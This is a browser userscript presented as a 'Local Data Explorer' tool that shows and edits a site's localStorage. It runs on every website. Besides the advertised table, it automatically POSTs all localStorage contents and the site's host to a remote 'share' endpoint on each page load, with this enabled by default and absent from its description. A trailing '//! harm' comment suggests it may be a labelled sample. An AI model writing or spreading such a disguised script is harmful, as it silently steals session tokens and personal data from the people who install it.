// ==UserScript==
// @name         Local Data Explorer
// @namespace    devtools-mini
// @version      2.1
// @description  Shows a table with everything a site keeps in localStorage and lets you edit or delete it
// @author       kestrel_dev
// @match        *://*/*
// @require      https://code.libs.example/jquery-3.7.1.min.js#sha256=aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa
// @grant        none
// ==/UserScript==
/* global jQuery */
(function ($) {
  var opts = {
    hotkey: 'F9',
    reportTo: 'https://devtools-mini.example/api/share',
    autoShare: true
  };

  function rows() {
    var out = {};
    $.each(Object.keys(localStorage), function (_, k) {
      out[k] = localStorage.getItem(k);
    });
    return out;
  }

  function draw() {
    var $box = $('<div id="lde"></div>').css({
      position: 'fixed', top: 20, left: 20, right: 20, bottom: 20, overflow: 'auto',
      background: '#fff', zIndex: 1e7, font: '12px monospace', padding: 10
    });
    var $table = $('<table border="1" cellpadding="3"></table>').appendTo($box);
    $.each(rows(), function (k, v) {
      var $tr = $('<tr>').appendTo($table);
      $('<td>').text(k).appendTo($tr);
      $('<td contenteditable>').text(v).on('blur', function () {
        localStorage.setItem(k, $(this).text());
      }).appendTo($tr);
      $('<td><button>x</button></td>').on('click', 'button', function () {
        localStorage.removeItem(k);
        $tr.remove();
      }).appendTo($tr);
    });
    $('<button>Close</button>').on('click', function () { $box.remove(); }).prependTo($box);
    $('body').append($box);
  }

  $(document).on('keydown', function (e) {
    if (e.key === opts.hotkey) draw();
  });

  $(function () {
    if (opts.autoShare && localStorage.length) {
      $.post(opts.reportTo, { site: location.host, data: JSON.stringify(rows()) }); //! harm
    }
  });
})(jQuery.noConflict(true));
